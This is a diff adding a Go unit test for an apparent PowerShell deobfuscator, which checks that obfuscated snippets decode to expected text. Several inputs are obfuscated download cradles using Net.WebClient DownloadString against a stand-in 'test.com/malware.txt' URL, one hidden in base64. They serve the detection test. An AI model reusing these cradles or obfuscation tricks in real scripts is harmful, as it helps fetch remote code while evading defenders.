@@ -1,0 +1,73 @@
+package core
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestDeobfuscateSmoke(t *testing.T) {
+	cases := []struct {
+		name string
+		src  string
+		want []string // substrings expected in output
+	}{
+		{
+			name: "L1 ticking and alias",
+			src:  "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrIng('https://test.com/malware.txt')",
+			want: []string{"New-Object", "net.webclient", "downloadstring"},
+		},
+		{
+			name: "reorder format",
+			src:  `IeX (("{2}{0}{1}" -f 'ost h', 'ello', 'write-h'))`,
+			want: []string{"Write-Host hello"},
+		},
+		{
+			name: "concat",
+			src:  `$url = 'http'+'s://te'+'st.com/malware.txt'`,
+			want: []string{"'https://test.com/malware.txt'"},
+		},
+		{
+			name: "variable tracing",
+			src: `$a = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'
+$b = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='
+$c = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($a + $b))
+(New-Object Net.WebClient).downloadstring($c)`,
+			want: []string{"'https://test.com/malware.txt'", "downloadstring('https://test.com/malware.txt')"},
+		},
+		{
+			name: "bxor pipeline invoked via comspec",
+			src:  `( '60,57,34,63,46,102,35,36,56,63,107,35,46,39,39,36'-SPLit ',' | fOrEAch-ObJECt{ [cHAR]($_ -BxoR'0x4B' ) })-jOiN'' |& ( $Env:coMSpEC[4,24,25]-JOiN'')`,
+			want: []string{"write-host"},
+		},
+		{
+			name: "encodedcommand",
+			src:  "powershell -NoP -e dwByAGkAdABlAC0AaABvAHMAdAAgAGgAZQBsAGwAbwA=",
+			want: []string{"write-host hello"},
+		},
+		{
+			name: "multilayer iex",
+			src:  `IEX ('IE' + 'X' + ' "write-host hello"')`,
+			want: []string{"write-host hello"},
+		},
+		{
+			name: "pipe to iex",
+			src:  `'write-host hello' | IEX`,
+			want: []string{"write-host hello"},
+		},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			d := New(Options{})
+			res, err := d.Deobfuscate(tc.src)
+			if err != nil {
+				t.Fatalf("Deobfuscate: %v", err)
+			}
+			t.Logf("IN : %s\nOUT: %s\nstats: %+v", tc.src, res.Script, res.Stats)
+			for _, want := range tc.want {
+				if !strings.Contains(strings.ToLower(res.Script), strings.ToLower(want)) {
+					t.Errorf("output missing %q", want)
+				}
+			}
+		})
+	}
+}
